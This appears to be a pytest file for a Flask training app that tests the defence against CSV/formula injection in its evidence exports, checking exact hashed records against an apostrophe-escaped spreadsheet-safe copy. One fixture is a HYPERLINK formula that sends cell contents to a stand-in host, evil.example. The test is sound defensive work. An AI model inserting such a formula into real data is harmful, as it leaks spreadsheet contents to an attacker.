"""The evidence CSV in two files (issue 27, part 7): the exact records, whose cells are the hashed
bytes even when a name or department typed by HR starts like a formula, and beside it a
spreadsheet-safe copy whose formula-like cells begin with an apostrophe (OWASP, "CSV Injection");
on the Evidence page and with ``flask evidence export --spreadsheet-safe``."""

from __future__ import annotations

import csv
import io

from quiz import evidence
from quiz.db import db
from quiz.models import User

from .helpers import add_user, page_text, signed_in_as

#: As HR typed them: each starts like a formula, with one of = + - @, a tab or a carriage return.
NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Dana")'
DEPARTMENTS = ("+Ward 4", "-Pharmacy", "@Billing", "\tFront desk", "\rNights")


def _formula_like_records(app) -> None:
    """One record for each formula-like department, all for a person whose name is a formula."""
    for n, department in enumerate(DEPARTMENTS):
        user_id = add_user(app, email=f"p{n}@example.org", name=NAME, department=department)
        with app.app_context():
            evidence.append(
                db.session,
                "lesson.viewed",
                user=db.session.get(User, user_id),
                module_id="test-callers",
                details={"screen": 1},
            )
            db.session.commit()


def _rows(text: str) -> list[dict[str, str]]:
    """The rows of a CSV file (a department with a carriage return in it stays one cell)."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _hash_matches(row: dict[str, str]) -> bool:
    typed = {name: value or None for name, value in row.items()}
    typed.update(seq=int(row["seq"]), user_id=int(row["user_id"]) if row["user_id"] else None)
    return evidence.record_hash(typed) == row["hash"]


def _assert_exact_and_safe(exact: list[dict[str, str]], safe: list[dict[str, str]]) -> None:
    assert [r["department"] for r in exact] == list(DEPARTMENTS)
    assert {r["learner_name"] for r in exact} == {NAME}
    assert all(_hash_matches(r) for r in exact)  # the exact bytes: each row checks against its hash
    assert [r["department"] for r in safe] == ["'" + d for d in DEPARTMENTS]
    assert {r["learner_name"] for r in safe} == {"'" + NAME}
    assert not any(_hash_matches(r) for r in safe)  # a copy to read, not to check
    for e, s in zip(exact, safe, strict=False):  # nothing else changes: numbers, days, hashes, details
        assert {k: v for k, v in e.items() if k not in ("learner_name", "department")} == {
            k: v for k, v in s.items() if k not in ("learner_name", "department")
        }


def test_the_evidence_page_offers_the_exact_records_and_a_spreadsheet_safe_copy_and_says_which_is_for_what(app):
    _formula_like_records(app)
    client = signed_in_as(app, "compliance")
    page = client.get("/audit/?department=%2BWard+4")
    assert page.status_code == 200
    text = page_text(page.text)
    assert "The exact records (CSV) : to check against their hashes" in text
    assert "A spreadsheet-safe copy (CSV) : to open in Excel or another spreadsheet" in text
    assert "those cells no longer match their hashes, so do not use this copy to check them" in text
    assert 'href="/audit/evidence-spreadsheet-safe.csv?department=%2BWard+4"' in page.text  # the same records

    exact = _rows(
        client.get("/audit/evidence.csv?event=lesson.viewed").text
    )  # (read each streamed file before the next request)
    safe = client.get("/audit/evidence-spreadsheet-safe.csv?event=lesson.viewed")
    assert safe.status_code == 200 and safe.mimetype == "text/csv"
    assert "rounds-evidence-spreadsheet-safe-" in safe.headers["Content-Disposition"]
    _assert_exact_and_safe(exact, _rows(safe.text))
    one = _rows(client.get("/audit/evidence-spreadsheet-safe.csv?event=lesson.viewed&department=%40Billing").text)
    assert [r["department"] for r in one] == ["'@Billing"]  # filtered as the page is
    assert client.get("/audit/evidence-spreadsheet-safe.csv?since=yesterday").status_code == 400
    assert signed_in_as(app, "trainer").get("/audit/evidence-spreadsheet-safe.csv").status_code == 403


def test_the_export_command_writes_the_exact_records_or_with_spreadsheet_safe_a_safe_copy(app):
    _formula_like_records(app)
    runner = app.test_cli_runner()
    exact = runner.invoke(args=["evidence", "export", "--event", "lesson.viewed"])
    safe = runner.invoke(args=["evidence", "export", "--event", "lesson.viewed", "--spreadsheet-safe"])
    assert exact.exit_code == 0 and safe.exit_code == 0, safe.output
    assert "5 evidence records exported;" in exact.stderr
    assert (
        "5 evidence records exported (spreadsheet-safe copy: cells that start like a formula begin with an apostrophe"
        in safe.stderr
    )
    _assert_exact_and_safe(_rows(exact.stdout), _rows(safe.stdout))
